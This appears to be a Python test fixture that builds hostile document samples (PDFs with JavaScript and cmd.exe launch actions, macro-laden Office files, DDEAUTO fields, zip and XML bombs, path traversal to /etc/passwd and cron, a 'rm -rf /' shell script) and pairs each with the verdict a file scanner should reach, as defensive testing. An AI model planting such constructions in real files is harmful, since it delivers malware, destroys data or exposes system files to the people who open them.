"""Documents made to hurt: scripts, macros, bombs, ways out, two files in one. Made here, kept nowhere."""

import io
import zipfile
import zlib

from myosotis.files.tests.hostile_pictures import MARK, SCRIPT, saved

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT = b"<w:document><w:body><w:p>Custody</w:p></w:body></w:document>"
LAUNCH = b"/S /Launch /F (cmd.exe)"


def pdf(*objects, trailer=b""):
    body = b"%PDF-1.7\n"
    for number, one in enumerate(
        (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>", *objects), 1
    ):
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    return body + b"trailer\n<< /Root 1 0 R " + trailer + b">>\nstartxref\n0\n%%EOF\n"


def stream(content, said=b""):
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), said, content)


def packed(content, said=b"/Type /ObjStm /N 1 /First 4"):
    return stream(zlib.compress(content), said + b" /Filter /FlateDecode")


def types(main=WORD_TYPE, more=""):
    return f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'.encode()


def office(main=WORD_TYPE, more="", **parts):
    members = {"[Content_Types].xml": types(main, more), "word/document.xml": DOCUMENT}
    return archive({**members, **parts.pop("parts", {})}, **parts)


def archive(members, *, comment=b"", stored=False):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
        made.comment = comment
    return target.getvalue()


def odt(**parts):
    return archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>", **parts}, stored=True
    )


def way_out(kind):
    place = (
        f'<Relationship Type="http://schemas/{kind}" Target="http://bad.example/x" TargetMode="External"/>'
    )
    return f"<Relationships>{place}</Relationships>".encode()


def linked():
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as made:
        link = zipfile.ZipInfo("word/passwd")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return target.getvalue()


def twice():
    target = io.BytesIO(office())
    with zipfile.ZipFile(target, "a") as made:
        made.writestr("WORD/document.xml", DOCUMENT + MARK)
    return target.getvalue()


def lying_about_size():
    made = bytearray(office(parts={"word/big.xml": b"A" * 10_000_000}))
    place = made.rfind(b"PK\x01\x02")
    made[place + 24 : place + 28] = (100).to_bytes(4, "little")
    return bytes(made)


def bomb(megabytes):
    return office(parts={"word/media/a.png": b"\0" * (megabytes * 1_000_000)})


def make_documents():
    """Name to content and what is expected."""
    acts = "acts_by_itself"
    return {
        "pdf with a script": (pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), acts),
        "pdf with a script under another spelling": (pdf(b"<< /S /J#61va#53cript /J#53 (x) >>"), acts),
        "pdf with a script among packed objects": (pdf(packed(b"3 0 << /S /JavaScript /JS (x) >>")), acts),
        "pdf with objects packed in another way": (
            pdf(stream(MARK.hex().encode(), b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")),
            acts,
        ),
        "pdf with objects packed twice": (
            pdf(
                stream(
                    zlib.compress(zlib.compress(LAUNCH)), b"/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"
                )
            ),
            acts,
        ),
        "pdf that starts a program": (pdf(b"<< " + LAUNCH + b" >>"), acts),
        "pdf that starts a program from a page": (pdf(packed(b"<< " + LAUNCH + b" >>", b"")), acts),
        "pdf with a file inside": (
            pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >>", stream(MARK, b"/Type /EmbeddedFile")),
            acts,
        ),
        "pdf with a file inside that hides its type": (pdf(b"<< /EF%x\n 4 0 R >>"), acts),
        "pdf with a form that sends": (pdf(b"<< /S /SubmitForm /F (http://bad.example) >>"), acts),
        "pdf with an active form": (pdf(b"<< /AcroForm << /XFA [ (x) 3 0 R ] >> >>"), acts),
        "pdf with a film": (pdf(b"<< /Subtype /RichMedia >>"), acts),
        "pdf under a password": (pdf(trailer=b"/Encrypt 9 0 R "), "locked"),
        "pdf that inflates without end": (pdf(packed(b"\0" * 60_000_000, b"")), "too_heavy"),
        "pdf with many parts that inflate": (pdf(*[packed(b"\0" * 20_000_000, b"")] * 12), "too_heavy"),
        "pdf that is a page": (
            pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html>" + SCRIPT + b"\n"),
            "two_in_one",
        ),
        "pdf that is an archive": (pdf() + office(), "two_in_one"),
        "pdf cut off": (pdf()[:60], "broken"),
        "docx with macros": (office(MACRO_TYPE, parts={"word/vbaProject.bin": MARK}), "macros"),
        "docx with macros under another name": (
            office(
                more='<Default ContentType="application/vnd.ms-office.vbaProject"/>',
                parts={"word/x.dat": MARK},
            ),
            "macros",
        ),
        "xlsx with macros": (office(SHEET_TYPE, parts={"xl/vbaProject.bin": MARK}), "macros"),
        "docx with a program inside": (office(parts={"word/embeddings/oleObject1.bin": b"MZ"}), "macros"),
        "docx with a template elsewhere": (
            office(parts={"word/_rels/settings.xml.rels": way_out("attachedTemplate")}),
            acts,
        ),
        "docx with a picture elsewhere": (
            office(parts={"word/_rels/document.xml.rels": way_out("image")}),
            acts,
        ),
        "docx that asks another program": (
            office(parts={"word/a.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
            "macros",
        ),
        "docx whose words multiply": (
            office(parts={"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'}),
            "too_heavy",
        ),
        "docx whose words multiply in another coding": (
            office(parts={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "cc">]>'.encode("utf-16")}),
            "too_heavy",
        ),
        "docx that leads out of its folder": (office(parts={"../../etc/cron.d/x": MARK}), "two_in_one"),
        "docx that names a place of the machine": (office(parts={"/etc/passwd": MARK}), "two_in_one"),
        "docx with a link to the machine": (linked(), "two_in_one"),
        "docx with one part twice": (twice(), "two_in_one"),
        "docx that inflates to 140 MB": (bomb(140), "too_heavy"),
        "docx of three thousand parts": (
            office(parts={f"word/{number}.txt": b"" for number in range(3000)}),
            "too_heavy",
        ),
        "docx that lies about its size": (lying_about_size(), ("broken", "kept")),
        "docx with an archive inside": (
            office(parts={"word/a.zip": archive({"b": b"\0" * 1_000_000})}),
            "macros",
        ),
        "docx with a page behind it": (office() + SCRIPT, "two_in_one"),
        "odt with macros": (odt(**{"Basic/Standard/Module1.xml": MARK}), "macros"),
        "odt with a script in its text": (
            odt(**{"styles.xml": "<office:scripts><office:script/></office:scripts>"}),
            "macros",
        ),
        "archive that is no document": (archive({"a.txt": MARK}), "unknown_kind"),
        "drawing with a script": (
            b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
            "unknown_kind",
        ),
        "page under the name of a photo": (b"<!DOCTYPE html><html>" + SCRIPT, "unknown_kind"),
        "program": (b"MZ\x90\x00" + MARK, "unknown_kind"),
        "script of the shell": (b"#!/bin/sh\nrm -rf /", "unknown_kind"),
        "old document with macros": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK, "old_office"),
        "postscript": (b"%!PS-Adobe-3.0\n" + MARK, "unknown_kind"),
        "page before a photo": (b"<html>" + SCRIPT + saved("JPEG"), "unknown_kind"),
        "nothing": (b"", "empty"),
        "zeros": (b"\0" * 100_000, "unknown_kind"),
    }
